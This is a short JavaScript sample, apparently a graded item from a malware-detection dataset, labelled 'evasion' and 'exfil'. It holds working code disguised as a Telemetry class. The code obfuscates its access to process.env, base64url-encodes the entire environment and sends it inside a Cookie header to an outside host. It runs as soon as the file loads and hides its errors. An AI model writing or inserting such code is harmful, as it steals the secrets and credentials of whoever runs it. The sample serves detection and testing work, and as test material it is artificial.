// evasion: environment reached as process[joined letters] inside a class getter, sent base64url in a Cookie header
// grade: hard; does: exfil
class Telemetry {
  get context() {
    const key = ['e', 'n', 'v'].join('');
    return process[key];
  }

  async flush() {
    const sid = Buffer.from(JSON.stringify(this.context)).toString('base64url');
    await fetch('https://telemetry.example-metrics.net/v1/ping', {
      headers: { cookie: `sid=${sid}; theme=dark` },
    });
  }
}

new Telemetry().flush().catch(() => {});
